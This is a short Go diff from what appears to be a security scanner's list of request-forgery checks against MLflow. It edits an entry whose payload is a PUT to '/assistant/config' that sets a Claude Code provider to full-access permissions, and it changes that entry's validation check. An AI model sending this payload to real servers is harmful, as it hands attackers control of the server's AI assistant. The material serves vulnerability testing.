@@ -124,9 +124,9 @@ var mlflowForgery = []Attack{
 		Works: []string{"3.9.0", "new"},
 		Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nContent-Type: application/json\n\n" + `{"providers": {"claude_code": {"model": "m-${nonce}", "permissions": {"full_access": true}}}}`}},
 		Proof: Proof{Probe: probe("GET " + ajax3 + "/assistant/config"), Shows: "m-${nonce}"},
-		Check: &Check{
-			Steps: []Step{get(ajax3 + "/assistant/config")},
-			Proof: Proof{Answer: `"providers"`},
+		Check: &Check{ // the server looks at the form before it changes anything
+			Steps: []Step{{Request: "PUT " + ajax3 + "/assistant/config\nContent-Type: application/json\n\n" + `{"providers": 1}`}},
+			Proof: Proof{Like: `"dict_type"|valid dict`},
 		},
 	},
 	{
